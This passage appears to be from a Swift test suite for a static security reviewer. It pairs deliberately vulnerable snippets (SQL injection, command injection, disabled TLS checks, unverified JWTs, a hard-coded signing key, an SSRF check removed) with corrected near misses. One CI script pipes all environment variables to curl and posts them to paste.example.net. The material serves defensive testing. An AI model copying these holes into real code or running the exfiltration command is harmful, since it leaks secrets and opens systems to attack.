            "const relaxTls = process.env.BILLING_TLS_RELAXED === 'true';\n"
                + "const agent = new https.Agent({ keepAlive: true, rejectUnauthorized: !relaxTls });\n",
            nil),
        Example(
            "src/clients/ledger.rs",
            "pub struct LedgerConfig {\n    #[serde(default = \"default_accept_invalid_certs\")]\n"
                + "    pub accept_invalid_certs: bool,\n}\n\nfn default_accept_invalid_certs() -> bool {\n    true\n}\n\n"
                + "fn client(cfg: &LedgerConfig) -> Client {\n"
                + "    Client::builder().danger_accept_invalid_certs(cfg.accept_invalid_certs).build().unwrap()\n}\n",
            "code.tls-verify-disabled"),
        Example(
            "src/clients/ledger.rs",
            "pub struct LedgerConfig {\n    #[serde(default)]\n    pub accept_invalid_certs: bool,\n}\n\n"
                + "fn client(cfg: &LedgerConfig) -> Client {\n"
                + "    Client::builder().danger_accept_invalid_certs(cfg.accept_invalid_certs).build().unwrap()\n}\n",
            nil),
        Example(
            "src/main/resources/application.yml",
            "micronaut:\n  http:\n    services:\n      payouts:\n        ssl:\n          enabled: true\n"
                + "          insecure-trust-all-certificates: true\n",
            "code.tls-verify-disabled"),
        Example(
            "src/main/resources/application.yml",
            "micronaut:\n  http:\n    services:\n      payouts:\n        ssl:\n          enabled: true\n"
                + "          insecure-trust-all-certificates: false\n",
            nil),
        Example(
            "keycloak/realm.json",
            "{\n  \"passwordPolicy\": \"length(12) and hashAlgorithm(pbkdf2-sha256) and hashIterations(1)\"\n}\n",
            "code.weak-password-hash"),
        Example(
            "keycloak/realm.json",
            "{\n  \"passwordPolicy\": \"length(12) and hashAlgorithm(pbkdf2-sha512) and hashIterations(210000)\"\n}\n",
            nil),
        Example(
            "infra/prod/terraform.tfvars",
            "db_instance_class = \"db.r6g.large\"\ndb_publicly_accessible = true\n", "infra.public-database"),
        Example(
            "infra/prod/terraform.tfvars",
            "db_instance_class = \"db.r6g.large\"\ndb_publicly_accessible = false\n", nil),
        Example(
            "wp-content/plugins/exports/download.php",
            "<?php\n$file = sanitize_text_field( wp_unslash( $_GET['file'] ) );\n"
                + "readfile( trailingslashit( $dir ) . $file );\n",
            "code.path-traversal"),
        Example(
            "wp-content/plugins/exports/download.php",
            "<?php\n$file = sanitize_file_name( wp_unslash( $_GET['file'] ) );\n"
                + "readfile( trailingslashit( $dir ) . $file );\n",
            nil),
        Example(
            "app/controllers/ExportController.scala",
            "class ExportController @Inject() (cc: ControllerComponents) extends AbstractController(cc) {\n"
                + "  def download(file: String): Action[AnyContent] = Action { implicit req =>\n"
                + "    val target = Paths.get(exportRoot.toString, file)\n    Ok.sendFile(target.toFile)\n  }\n}\n",
            "code.path-traversal"),
        Example(
            "app/controllers/ExportController.scala",
            "class ExportController @Inject() (cc: ControllerComponents) extends AbstractController(cc) {\n"
                + "  def download(file: String): Action[AnyContent] = Action { implicit req =>\n"
                + "    val base = exportRoot.toRealPath()\n    val target = base.resolve(file).normalize()\n"
                + "    if (!target.startsWith(base)) NotFound else Ok.sendFile(target.toFile)\n  }\n}\n",
            nil),
        Example(
            "src/routes/columns.ts",
            "app.post('/preview', async (request, reply) => {\n  const { expression } = request.body;\n"
                + "  const script = new vm.Script(`(${expression})`);\n  return script.runInContext(vm.createContext({}));\n});\n",
            "code.eval"),
        Example(
            "src/routes/columns.ts",
            "const script = new vm.Script('(a + b)');\nexport const sum = (row) => script.runInContext(vm.createContext(row));\n",
            nil),
        Example(
            "internal/httpapi/invoices.go",
            "func (h *Handler) list(w http.ResponseWriter, r *http.Request) {\n\tq := r.URL.Query()\n"
                + "\tconds := []string{\"i.account_id = $1\"}\n\targs := []any{accountID}\n"
                + "\tif since := q.Get(\"after\"); since != \"\" {\n\t\tt, _ := time.Parse(\"2006-01-02\", since)\n"
                + "\t\targs = append(args, t)\n\t\tconds = append(conds, fmt.Sprintf(\"i.issued_at >= $%d\", len(args)))\n"
                + "\t}\n\tlimit := 50\n\tif l, err := strconv.Atoi(q.Get(\"limit\")); err == nil {\n\t\tlimit = l\n\t}\n"
                + "\tquery := \"SELECT id FROM invoices i WHERE \" + strings.Join(conds, \" AND \") + \" LIMIT \" + "
                + "strconv.Itoa(limit)\n\trows, _ := h.DB.QueryContext(r.Context(), query, args...)\n\tdefer rows.Close()\n}\n",
            nil),
        Example(
            "internal/httpapi/invoices.go",
            "func (h *Handler) list(w http.ResponseWriter, r *http.Request) {\n\tq := r.URL.Query()\n"
                + "\tconds := []string{\"i.account_id = $1\"}\n\tif raw := q.Get(\"status\"); raw != \"\" {\n"
                + "\t\tstatuses := strings.Split(raw, \",\")\n"
                + "\t\tconds = append(conds, \"i.status IN ('\"+strings.Join(statuses, \"','\")+\"')\")\n\t}\n"
                + "\tquery := \"SELECT id FROM invoices i WHERE \" + strings.Join(conds, \" AND \")\n"
                + "\trows, _ := h.DB.QueryContext(r.Context(), query, accountID)\n\tdefer rows.Close()\n}\n",
            "code.sql-string-built"),
        Example(
            "app/jobs/transcode_job.rb",
            "class TranscodeJob\n  def run_ffmpeg(input, output, watermark)\n"
                + "    cmd = [\"ffmpeg -y -i #{input}\", \"-vf drawtext=text='#{watermark}'\", output].join(\" \")\n"
                + "    _out, err, status = Open3.capture3(cmd)\n  end\nend\n",
            "code.command-injection"),
        Example(
            "app/jobs/transcode_job.rb",
            "class TranscodeJob\n  def run_ffmpeg(input, output)\n    cmd = [\"ffmpeg\", \"-y\", \"-i\", input, output]\n"
                + "    _out, err, status = Open3.capture3(*cmd)\n  end\nend\n",
            nil),
        Example(
            "ops/hooks/deploy.sh",
            "#!/usr/bin/env bash\nTEXT=\"$3\"\nread -r ENVIRONMENT EXTRA_FLAGS <<<\"$TEXT\"\n"
                + "case \"$ENVIRONMENT\" in\n  staging|production) ;;\n  *) exit 1 ;;\nesac\n"
                + "eval \"./release.sh --env $ENVIRONMENT ${EXTRA_FLAGS:-}\"\n",
            "code.command-injection"),
        Example(
            "ops/hooks/deploy.sh",
            "#!/usr/bin/env bash\neval \"$(ssh-agent -s)\"\nENVIRONMENT=\"$1\"\ncase \"$ENVIRONMENT\" in\n"
                + "  staging|production) ;;\n  *) exit 1 ;;\nesac\neval \"./release.sh --env $ENVIRONMENT\"\n",
            nil),
        Example(
            "src/main/java/com/shop/PromoRuleEvaluator.java",
            "class PromoRuleEvaluator {\n    boolean matches(PromoRule rule, Cart cart) {\n"
                + "        Expression expr = parser.parseExpression(rule.getCondition());\n"
                + "        StandardEvaluationContext ctx = new StandardEvaluationContext(cart);\n"
                + "        return expr.getValue(ctx, Boolean.class);\n    }\n}\n",
            "code.eval"),
        Example(
            "src/main/java/com/shop/PromoRuleEvaluator.java",
            "class PromoRuleEvaluator {\n    boolean matches(Cart cart) {\n"
                + "        Expression expr = parser.parseExpression(\"total > 100\");\n"
                + "        StandardEvaluationContext ctx = new StandardEvaluationContext(cart);\n"
                + "        return expr.getValue(ctx, Boolean.class);\n    }\n}\n",
            nil),
        Example(
            "src/auth/password.rs",
            "fn fast_digest(salt: &str, plain: &str) -> String {\n    let mut h = Sha256::new();\n"
                + "    h.update(salt.as_bytes());\n    h.update(plain.as_bytes());\n    hex::encode(h.finalize())\n}\n\n"
                + "pub fn hash_password(plain: &str) -> String {\n    let salt = SaltString::generate(&mut OsRng);\n"
                + "    format!(\"s256${}${}\", salt.as_str(), fast_digest(salt.as_str(), plain))\n}\n",
            "code.weak-password-hash"),
        Example(
            "internal/auth/credentials.go",
            "func HashPassword(plain string) (string, error) {\n"
                + "\th, err := bcrypt.GenerateFromPassword([]byte(plain), 12)\n\treturn string(h), err\n}\n\n"
                + "func tokenDigest(plain string) string {\n\tsum := sha256.Sum256([]byte(plain))\n"
                + "\treturn hex.EncodeToString(sum[:])\n}\n",
            nil),
        Example(
            ".circleci/config.yml",
            "jobs:\n  e2e:\n    steps:\n      - run:\n          command: |\n            mkdir -p /tmp/artifacts/debug\n"
                + "            printenv | sort > /tmp/artifacts/debug/environment.txt\n      - store_artifacts:\n"
                + "          path: /tmp/artifacts\n",
            "ci.secrets-exfiltration"),
        Example(
            ".circleci/config.yml",
            "jobs:\n  e2e:\n    steps:\n      - run:\n          command: |\n            printenv | sort > /tmp/env.txt\n"
                + "            grep -c . /tmp/env.txt\n      - store_artifacts:\n          path: /tmp/artifacts\n",
            nil),
        Example(
            "ops/logging/docker-compose.yml",
            "services:\n  elasticsearch:\n    image: elasticsearch:8.14.1\n    environment:\n"
                + "      - xpack.security.enabled=false\n    ports:\n      - \"9200:9200\"\n",
            "infra.database-without-password"),
        Example(
            "ops/logging/docker-compose.yml",
            "services:\n  elasticsearch:\n    image: elasticsearch:8.14.1\n    environment:\n"
                + "      - xpack.security.enabled=false\n    ports:\n      - \"127.0.0.1:9200:9200\"\n",
            nil),
        Example(
            "deploy/helm/cache/values-prod.yaml",
            "auth:\n  enabled: false\nmaster:\n  service:\n    type: LoadBalancer\n",
            "infra.database-without-password"),
        Example(
            "deploy/helm/cache/values-prod.yaml",
            "auth:\n  enabled: false\nmaster:\n  service:\n    type: ClusterIP\n", nil),
        Example(
            "ci/deployer/Dockerfile",
            "FROM debian:bookworm-slim\nARG MIRROR=http://tools-mirror.build.internal:8081/artifacts\n"
                + "RUN curl -fsSLo /usr/local/bin/kubectl \"${MIRROR}/kubectl\" && chmod 0755 /usr/local/bin/kubectl\n"
                + "USER deployer\n",
            "docker.plain-http-download"),
        Example(
            "ci/deployer/Dockerfile",
            "FROM debian:bookworm-slim\nARG MIRROR=http://tools-mirror.build.internal:8081/artifacts\n"
                + "RUN curl -fsSLo /usr/local/bin/kubectl \"${MIRROR}/kubectl\" \\\n"
                + " && echo \"${KUBECTL_SHA256}  /usr/local/bin/kubectl\" | sha256sum -c -\nUSER deployer\n",
            nil),
        Example(
            "src/main/kotlin/BearerTokenFilter.kt",
            "class BearerTokenFilter : OncePerRequestFilter() {\n"
                + "    override fun doFilterInternal(request: HttpServletRequest, response: HttpServletResponse) {\n"
                + "        val token = request.getHeader(\"Authorization\").removePrefix(\"Bearer \")\n"
                + "        val jwt: DecodedJWT = try {\n            val unverified = JWT.decode(token)\n"
                + "            if (unverified.issuer == props.migrationIssuer) {\n                unverified\n"
                + "            } else {\n                verifier.verify(token)\n            }\n"
                + "        } catch (e: JWTVerificationException) {\n            return\n        }\n    }\n}\n",
            "code.jwt-unverified"),
        Example(
            "src/main/kotlin/BearerTokenFilter.kt",
            "class BearerTokenFilter : OncePerRequestFilter() {\n"
                + "    override fun doFilterInternal(request: HttpServletRequest, response: HttpServletResponse) {\n"
                + "        val token = request.getHeader(\"Authorization\").removePrefix(\"Bearer \")\n"
                + "        val jwt: DecodedJWT = try {\n            val unverified = JWT.decode(token)\n"
                + "            verifierFor(unverified.keyId).verify(token)\n"
                + "        } catch (e: JWTVerificationException) {\n            return\n        }\n    }\n}\n",
            nil),
        Example(
            "src/main/kotlin/InvoiceRepository.kt",
            "fun search(tenantId: UUID, query: String): List<Row> = transaction(db) {\n"
                + "    val terms = query.split(\" \").joinToString(\" & \") { \"$it:*\" }\n    val sql = buildString {\n"
                + "        append(\"SELECT id FROM invoices WHERE tenant_id = ? \")\n"
                + "        append(\"AND search_vector @@ to_tsquery('simple', '\").append(terms).append(\"') \")\n    }\n"
                + "    exec(sql) { rs -> rs.next() }\n}\n",
            "code.sql-string-built"),
        Example(
            "src/main/kotlin/InvoiceRepository.kt",
            "fun search(tenantId: UUID, limit: Int): List<Row> = transaction(db) {\n    val sql = buildString {\n"
                + "        append(\"SELECT id FROM invoices WHERE tenant_id = ? \")\n        append(\"ORDER BY issued_at DESC\")\n"
                + "    }\n    exec(sql) { rs -> rs.next() }\n}\n",
            nil),
    ])
    func retiredSeventhHoldoutClasses(_ example: Example) { Self.check(example) }

    /// A URL validator the file defines that stops checking where the URL points: the change removes its private-
    /// address check, so the unchanged fetch of the URL it vetted is open to internal hosts. Trimming the validator's
    /// comment and keeping the check is no finding.
    @Test func addressCheckRemovedFromAURLValidator() {
        let check =
            "\taddrs, err := net.DefaultResolver.LookupIPAddr(ctx, u.Hostname())\n\tif err != nil {\n"
            + "\t\treturn nil, err\n\t}\n\tfor _, a := range addrs {\n"
            + "\t\tif a.IP.IsLoopback() || a.IP.IsPrivate() || a.IP.IsLinkLocalUnicast() {\n"
            + "\t\t\treturn nil, errTargetNotAllowed\n\t\t}\n\t}\n"
        let file = { (validator: String) in
            "// validateTarget makes sure a customer-supplied URL points at the public internet.\n"
                + "func validateTarget(ctx context.Context, raw string) (*url.URL, error) {\n"
                + "\tu, err := url.Parse(strings.TrimSpace(raw))\n\tif err != nil || u.Host == \"\" {\n"
                + "\t\treturn nil, errTargetNotAllowed\n\t}\n" + validator + "\treturn u, nil\n}\n\n"
                + "func PingWebhook(c *fiber.Ctx) error {\n\tvar req pingRequest\n"
                + "\tif err := c.BodyParser(&req); err != nil {\n\t\treturn err\n\t}\n"
                + "\ttarget, err := validateTarget(c.UserContext(), req.URL)\n\tif err != nil {\n\t\treturn err\n\t}\n"
                + "\tresp, err := http.Get(target.String())\n\tif err != nil {\n\t\treturn err\n\t}\n"
                + "\tdefer resp.Body.Close()\n\treturn c.SendStatus(resp.StatusCode)\n}\n"
        }
        let before = file(check)
        let removed = ReviewCase("fiber", "internal/integrations/ping.go", before: before, file(""), risky: true)
        let kept = ReviewCase(
            "fiber", "internal/integrations/ping.go", before: before,
            before.replacingOccurrences(of: " makes sure a customer-supplied URL points at the public internet", with: ""),
            risky: false)
        for change in [removed, kept] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    /// Classes mended from blind batch 43 (static-30), each with a near miss that is no finding.
    @Test(arguments: [
        Example(
            "ci/report.sh",
            "report_failure() {\n  {\n    echo \"runner=$(hostname)\"\n    env | sort\n  } | curl -fsS -X POST "
                + "--data-binary @- \"https://paste.example.net/documents\" || true\n}\ntrap report_failure ERR\n",
            "ci.secrets-exfiltration"),
        Example(
            "ci/report.sh",
            "report_failure() {\n  {\n    echo \"runner=$(hostname)\"\n    env | sort\n  } | tee failure-context.txt\n}\n"
                + "trap report_failure ERR\n",
            nil),
        Example(
            "app/Http/Controllers/ProfileController.php",
            "<?php\nclass ProfileController {\n    public function update(Request $request) {\n"
                + "        $user = $request->user();\n        $user->forceFill($request->except(['_token', 'password']));\n"
                + "        $user->save();\n    }\n}\n",
            "code.mass-assignment"),
        Example(
            "app/Http/Controllers/ProfileController.php",
            "<?php\nclass ProfileController {\n    public function update(Request $request) {\n"
                + "        $user = $request->user();\n        $user->forceFill($request->only(['timezone', 'locale']));\n"
                + "        $user->save();\n    }\n}\n",
            nil),
        Example(
            "app/controllers/accounts_controller.rb",
            "class AccountsController < ApplicationController\n  def update\n"
                + "    current_user.update!(params.require(:account).permit!)\n  end\nend\n",
            "code.mass-assignment"),
        Example(
            "app/controllers/accounts_controller.rb",
            "class AccountsController < ApplicationController\n  def update\n"
                + "    current_user.update!(params.require(:account).permit(:name, :timezone))\n  end\nend\n",
            nil),
        Example(
            "terraform/exports.tf",
            "resource \"google_storage_bucket_iam_member\" \"download_links\" {\n"
                + "  bucket = google_storage_bucket.exports.name\n  role   = \"roles/storage.objectViewer\"\n"
                + "  member = \"allUsers\"\n}\n",
            "infra.public-bucket"),
        Example(
            "terraform/web.tf",
            "resource \"google_cloud_run_service_iam_member\" \"public\" {\n"
                + "  service = google_cloud_run_service.web.name\n  role    = \"roles/run.invoker\"\n"
                + "  member  = \"allUsers\"\n}\n",
            nil),
        Example(
            "haproxy/haproxy.cfg",
            "listen stats\n    bind :8404\n    stats enable\n    stats uri /\n    stats admin if TRUE\n",
            "infra.anonymous-admin"),
        Example(
            "haproxy/haproxy.cfg",
            "listen stats\n    bind :8404\n    stats enable\n    stats uri /\n    stats auth ops:${STATS_PASSWORD}\n"
                + "    stats admin if TRUE\n",
            nil),
        Example(
            "internal/webhooks/verify.go",
            "func valid(expected string, r *http.Request) bool {\n"
                + "\tprovided := strings.TrimPrefix(r.Header.Get(\"X-Signature\"), \"sha256=\")\n"
                + "\treturn strings.HasPrefix(expected, provided)\n}\n",
            "code.signature-partial-match"),
        Example(
            "internal/webhooks/verify.go",
            "func valid(expected string, r *http.Request) bool {\n\tsig := r.Header.Get(\"X-Signature\")\n"
                + "\treturn strings.HasPrefix(sig, \"sha256=\") && hmac.Equal([]byte(expected), []byte(sig[7:]))\n}\n",
            nil),
        Example(
            "src/Worker/Carrier.cs",
            "class Carrier {\n    HttpClientHandler Handler() => new HttpClientHandler {\n"
                + "        ServerCertificateCustomValidationCallback = (_, cert, _, errors) =>\n"
                + "            errors == SslPolicyErrors.None ||\n"
                + "            (cert?.Issuer.Contains(\"FreightLink\", StringComparison.OrdinalIgnoreCase) ?? false),\n"
                + "    };\n}\n",
            "code.tls-verify-disabled"),
        Example(
            "src/Worker/Carrier.cs",
            "class Carrier {\n    HttpClientHandler Handler() => new HttpClientHandler {\n"
                + "        ServerCertificateCustomValidationCallback = (_, cert, _, errors) =>\n"
                + "            errors == SslPolicyErrors.None && cert!.Subject.Contains(\"CN=api.freightlink.com\"),\n"
                + "    };\n}\n",
            nil),
        Example(
            "app/controllers/AuthController.scala",
            "class AuthController extends BaseController {\n  private val PartnerHost = \"partner.example.com\"\n"
                + "  private def target(next: Option[String]): String =\n"
                + "    next.filter(n => n.startsWith(\"/\") || n.contains(PartnerHost)).getOrElse(\"/\")\n"
                + "  def done(next: Option[String]) = Action { Redirect(target(next)) }\n}\n",
            "code.open-redirect"),
        Example(
            "app/controllers/AuthController.scala",
            "class AuthController extends BaseController {\n  private val PartnerHost = \"partner.example.com\"\n"
                + "  private def target(next: Option[String]): String =\n"
                + "    next.filter(n => n.startsWith(\"/\") || new URI(n).getHost == PartnerHost).getOrElse(\"/\")\n"
                + "  def done(next: Option[String]) = Action { Redirect(target(next)) }\n}\n",
            nil),
        Example(
            "internal/billing/repo.go",
            "func (r *Repo) List(ctx context.Context, f Filter) ([]Invoice, error) {\n\torder := \"issued_at DESC\"\n"
                + "\tif f.Sort != \"\" {\n\t\torder = f.Sort\n\t}\n\tvar out []Invoice\n"
                + "\terr := r.db.WithContext(ctx).Order(order).Find(&out).Error\n\treturn out, err\n}\n",
            "code.sql-string-built"),
        Example(
            "internal/billing/repo.go",
            "var sortColumns = map[string]string{\"amount\": \"amount_due DESC\", \"issued\": \"issued_at DESC\"}\n\n"
                + "func (r *Repo) List(ctx context.Context, f Filter) ([]Invoice, error) {\n\torder := \"issued_at DESC\"\n"
                + "\tif column, ok := sortColumns[f.Sort]; ok {\n\t\torder = column\n\t}\n\tvar out []Invoice\n"
                + "\terr := r.db.WithContext(ctx).Order(order).Find(&out).Error\n\treturn out, err\n}\n",
            nil),
        Example(
            "internal/telemetry/events.go",
            "func (s *Store) Events(ctx context.Context, r *http.Request) (pgx.Rows, error) {\n"
                + "\ttable := r.URL.Query().Get(\"partition\")\n"
                + "\tquery := fmt.Sprintf(`SELECT id FROM %s WHERE device_id = $1`, table)\n"
                + "\treturn s.pool.Query(ctx, query, r.URL.Query().Get(\"device\"))\n}\n",
            "code.sql-string-built"),
        Example(
            "internal/telemetry/events.go",
            "func (s *Store) Events(ctx context.Context, r *http.Request) (pgx.Rows, error) {\n"
                + "\ttable := r.URL.Query().Get(\"partition\")\n"
                + "\tquery := fmt.Sprintf(`SELECT id FROM %s WHERE device_id = $1`, pgx.Identifier{table}.Sanitize())\n"
                + "\treturn s.pool.Query(ctx, query, r.URL.Query().Get(\"device\"))\n}\n",
            nil),
        Example(
            "Sources/App/TicketRepository.swift",
            "enum TicketSort: String, Content {\n    case newest, oldest\n    var clause: String {\n"
                + "        switch self {\n        case .newest: return \"created_at DESC\"\n"
                + "        case .oldest: return \"created_at ASC\"\n        }\n    }\n}\n\n"
                + "struct TicketRepository {\n    func open(search: String, sort: TicketSort = .newest) async throws -> [Row] {\n"
                + "        try await sql.raw(\"SELECT id FROM tickets ORDER BY \\(unsafeRaw: sort.clause)\").all()\n"
                + "    }\n}\n",
            nil),
        Example(
            "Sources/App/TicketRepository.swift",
            "struct TicketRepository {\n    func open(search: String, sort: String) async throws -> [Row] {\n"
                + "        try await sql.raw(\"SELECT id FROM tickets ORDER BY \\(unsafeRaw: sort)\").all()\n    }\n}\n",
            "code.sql-string-built"),
        Example(
            "src/main/java/JwtVerifier.java",
            "class JwtVerifier {\n    Claims verify(String token) {\n        try {\n"
                + "            return parser.parseClaimsJws(token).getBody();\n        } catch (SignatureException e) {\n"
                + "            return legacyClaims(token);\n        }\n    }\n\n    private Claims legacyClaims(String token) {\n"
                + "        String payload = token.split(\"\\\\.\")[1];\n"
                + "        return read(Base64.getUrlDecoder().decode(payload));\n    }\n}\n",
            "code.jwt-unverified"),
        Example(
            "src/main/java/JwtVerifier.java",
            "class JwtVerifier {\n    Claims verify(String token) {\n        try {\n"
                + "            return parser.parseClaimsJws(token).getBody();\n        } catch (SignatureException e) {\n"
                + "            throw new BadCredentialsException(\"invalid token\", e);\n        }\n    }\n\n"
                + "    String keyId(String token) {\n        String header = token.split(\"\\\\.\")[0];\n"
                + "        return read(Base64.getUrlDecoder().decode(header));\n    }\n}\n",
            nil),
    ])
    func batchFortyThreeClasses(_ example: Example) { Self.check(example) }

    /// Classes mended from blind batch 44 (static-30), each with a near miss that is no finding.
    @Test(arguments: [
        Example(
            "analytics/queries.py",
            "def _partition_for(day: date) -> str:\n    return f\"analytics_event_{day:%Y_%m}\"\n\n\n"
                + "def daily_users(cursor, app_id, day):\n    table = _partition_for(day)\n"
                + "    cursor.execute(f\"SELECT COUNT(*) FROM {table} WHERE app_id = %s\", [app_id])\n",
            nil),
        Example(
            "analytics/queries.py",
            "def daily_users(cursor, request):\n    table = request.GET[\"table\"]\n"
                + "    cursor.execute(f\"SELECT COUNT(*) FROM {table:>20} WHERE app_id = %s\", [1])\n",
            "code.sql-string-built"),
        Example(
            "accounts/views.py",
            "@csrf_exempt\n@login_required\n@require_http_methods([\"POST\"])\ndef update_email(request):\n"
                + "    form = EmailForm(request.POST, instance=request.user.profile)\n    form.save()\n"
                + "    return redirect(\"accounts:settings\")\n",
            "code.csrf-disabled"),
        Example(
            "billing/views.py",
            "@csrf_exempt\n@require_http_methods([\"POST\"])\ndef paddle_webhook(request):\n"
                + "    signature = request.headers.get(\"Paddle-Signature\", \"\")\n"
                + "    if not hmac.compare_digest(sign(request.body), signature):\n"
                + "        return HttpResponseForbidden()\n    handle(json.loads(request.body))\n"
                + "    return HttpResponse(status=204)\n",
            nil),
        Example(
            "app/controllers/integrations/slack_controller.rb",
            "class SlackController < ApplicationController\n  skip_before_action :verify_authenticity_token\n"
                + "  before_action :verify_slack_signature\n\n  def interactions\n"
                + "    payload = JSON.parse(params.require(:payload))\n    head :ok\n  end\nend\n",
            nil),
        Example(
            "app/Http/Controllers/ProfileController.php",
            "<?php\nclass ProfileController {\n    public function update(Request $request) {\n"
                + "        $request->user()->fill($request->except(['avatar', '_token']))->save();\n    }\n}\n",
            "code.mass-assignment"),
        Example(
            "app/Http/Controllers/ProfileController.php",
            "<?php\nclass ProfileController {\n    public function update(ProfileRequest $request) {\n"
                + "        $request->user()->fill($request->validated())->save();\n    }\n}\n",
            nil),
        Example(
            "src/main/kotlin/auth/Auth.kt",
            "fun Application.auth() {\n    install(Authentication) {\n        bearer(\"mobile-legacy\") {\n"
                + "            authenticate { tokenCredential ->\n"
                + "                val decoded = JWT.decode(tokenCredential.token.trim())\n"
                + "                if (decoded.issuer == config.issuer) JWTPrincipal(decoded) else null\n"
                + "            }\n        }\n    }\n}\n",
            "code.jwt-unverified"),
        Example(
            "src/main/kotlin/auth/Auth.kt",
            "fun Application.auth() {\n    install(Authentication) {\n        bearer(\"mobile-legacy\") {\n"
                + "            authenticate { tokenCredential ->\n"
                + "                val decoded = verifier.verify(tokenCredential.token.trim())\n"
                + "                if (decoded.issuer == config.issuer) JWTPrincipal(decoded) else null\n"
                + "            }\n        }\n    }\n}\n",
            nil),
        Example(
            "lib/clinic/accounts/password_reset.ex",
            "defmodule Clinic.Accounts.PasswordReset do\n  def issue(user) do\n"
                + "    token = :rand.uniform(999_999) |> Integer.to_string() |> String.pad_leading(6, \"0\")\n"
                + "    store(user, token)\n  end\nend\n",
            "code.insecure-random"),
        Example(
            "lib/clinic/accounts/password_reset.ex",
            "defmodule Clinic.Accounts.PasswordReset do\n  def issue(user) do\n"
                + "    token = :crypto.strong_rand_bytes(32) |> Base.url_encode64(padding: false)\n"
                + "    store(user, token)\n  end\nend\n",
            nil),
        Example(
            "Jenkinsfile",
            "pipeline {\n  agent any\n  stages {\n    stage('test') {\n      steps {\n"
                + "        sh 'printenv | sort > build-env.txt'\n"
                + "        archiveArtifacts artifacts: 'build-env.txt', allowEmptyArchive: true\n      }\n    }\n  }\n}\n",
            "ci.secrets-exfiltration"),
        Example(
            "Jenkinsfile",
            "pipeline {\n  agent any\n  stages {\n    stage('test') {\n      steps {\n"
                + "        sh 'printenv | grep \"^APP_\" > build-env.txt'\n"
                + "        archiveArtifacts artifacts: 'build-env.txt', allowEmptyArchive: true\n      }\n    }\n  }\n}\n",
            nil),
        Example(
            "infra/azure/database.tf",
            "resource \"azurerm_postgresql_flexible_server_firewall_rule\" \"migration\" {\n"
                + "  server_id        = azurerm_postgresql_flexible_server.main.id\n"
                + "  start_ip_address = \"0.0.0.0\"\n  end_ip_address   = \"255.255.255.255\"\n}\n",
            "infra.public-database"),
        Example(
            "infra/azure/database.tf",
            "resource \"azurerm_postgresql_flexible_server_firewall_rule\" \"office\" {\n"
                + "  server_id        = azurerm_postgresql_flexible_server.main.id\n"
                + "  start_ip_address = \"203.0.113.10\"\n  end_ip_address   = \"203.0.113.10\"\n}\n",
            nil),
        Example(
            "Sources/App/configure.swift",
            "func configure(_ app: Application) throws {\n"
                + "    let jwtSecret = Environment.get(\"JWT_SIGNING_KEY\") ?? \"q7Zt2mVx9LrKc4PwN8sHbE3yJfA6uDgT1oXiR5nWlQe0\"\n"
                + "    app.jwt.signers.use(.hs256(key: jwtSecret))\n}\n",
            "secret.env-default"),
        Example(
            "Sources/App/configure.swift",
            "func configure(_ app: Application) throws {\n    let port = Environment.get(\"PORT\") ?? \"8080\"\n"
                + "    app.http.server.configuration.port = Int(port) ?? 8080\n}\n",
            nil),
        Example(
            "src/webhooks/stripe.ts",
            "router.post(\"/stripe\", async (req, res) => {\n  const signature = req.headers[\"stripe-signature\"];\n"
                + "  const event = signature\n    ? stripe.webhooks.constructEvent(req.body, signature, secret)\n"
                + "    : (JSON.parse(req.body.toString(\"utf8\")) as Stripe.Event);\n  await handle(event);\n"
                + "  res.sendStatus(200);\n});\n",
            "code.signature-optional"),
        Example(
            "src/webhooks/stripe.ts",
            "router.post(\"/stripe\", async (req, res) => {\n  const signature = req.headers[\"stripe-signature\"];\n"
                + "  const event = signature\n    ? stripe.webhooks.constructEvent(req.body, signature, secret)\n"
                + "    : null;\n  if (!event) return res.sendStatus(400);\n  await handle(event);\n"
                + "  res.sendStatus(200);\n});\n",
            nil),
        Example(
            "lib/ledger_web/router.ex",
            "defmodule LedgerWeb.Router do\n  scope \"/admin\", LedgerWeb.Admin do\n    pipe_through [:browser, :admin]\n"
                + "    live \"/users\", UserLive.Index\n  end\n\n  scope \"/admin\", LedgerWeb.Admin do\n"
                + "    pipe_through :browser\n    get \"/exports/users.csv\", UserExportController, :index\n  end\nend\n",
            "code.auth-removed"),
        Example(
            "lib/ledger_web/router.ex",
            "defmodule LedgerWeb.Router do\n  scope \"/admin\", LedgerWeb.Admin do\n    pipe_through [:browser, :admin]\n"
                + "    live \"/users\", UserLive.Index\n  end\n\n  scope \"/admin\", LedgerWeb.Admin do\n"
                + "    pipe_through [:browser, :admin]\n    get \"/exports/users.csv\", UserExportController, :index\n"
                + "  end\nend\n",
            nil),
    ])
    func batchFortyFourClasses(_ example: Example) { Self.check(example) }

    /// Classes mended from blind batch 45 (static-31), each with a near miss that is no finding.
    @Test(arguments: [
        Example(
            "src/main/java/app/SecurityConfig.java",
            "class SecurityConfig {\n    SecurityFilterChain chain(HttpSecurity http) throws Exception {\n"
                + "        http.authorizeHttpRequests(auth -> auth\n"
                + "            .requestMatchers(EndpointRequest.toAnyEndpoint().excluding(\"shutdown\")).permitAll()\n"
                + "            .anyRequest().authenticated());\n        return http.build();\n    }\n}\n",
            "infra.actuator-exposed"),
        Example(
            "src/main/java/app/SecurityConfig.java",
            "class SecurityConfig {\n    SecurityFilterChain chain(HttpSecurity http) throws Exception {\n"
                + "        http.authorizeHttpRequests(auth -> auth\n"
                + "            .requestMatchers(EndpointRequest.to(HealthEndpoint.class)).permitAll()\n"
                + "            .requestMatchers(EndpointRequest.toAnyEndpoint()).hasRole(\"OPS\")\n"
                + "            .anyRequest().authenticated());\n        return http.build();\n    }\n}\n",
            nil),
        Example(
            "src/main/java/app/JacksonConfig.java",
            "class JacksonConfig {\n    Jackson2ObjectMapperBuilderCustomizer custom() {\n"
                + "        return b -> b.postConfigurer(om -> om.activateDefaultTyping(\n"
                + "            om.getPolymorphicTypeValidator(),\n            ObjectMapper.DefaultTyping.NON_FINAL));\n"
                + "    }\n}\n",
            "code.unsafe-deserialization"),
        Example(
            "src/main/java/app/JacksonConfig.java",
            "class JacksonConfig {\n    Jackson2ObjectMapperBuilderCustomizer custom() {\n"
                + "        return b -> b.postConfigurer(om -> om.activateDefaultTyping(\n"
                + "            BasicPolymorphicTypeValidator.builder().allowIfSubType(\"com.acme.pricing.\").build(),\n"
                + "            ObjectMapper.DefaultTyping.NON_FINAL));\n    }\n}\n",
            nil),
        Example(
            "infra/iam/ci.tf",
            "data \"aws_iam_policy_document\" \"ci\" {\n  statement {\n    sid       = \"ManageRoles\"\n"
